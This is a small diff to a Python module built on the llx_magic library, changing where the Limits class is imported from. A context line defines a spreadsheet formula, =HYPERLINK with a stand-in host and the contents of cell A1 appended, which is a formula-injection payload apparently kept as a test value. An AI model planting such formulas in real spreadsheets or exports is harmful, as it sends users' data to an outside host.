@@ -14,7 +14,7 @@ import llx_magic as llx
 from llx_magic.observe.frames.inert import InertFrame
 from llx_magic.observe.frames.reply import reply_frame
 from llx_magic.profiles.document import ModelProfile, Profile
-from llx_magic.template.limits import Limits
+from llx_magic.template.tables import Limits
 from llx_magic.template.template import Template
 
 FORMULA = '=HYPERLINK("http://a.example/?"&A1)'
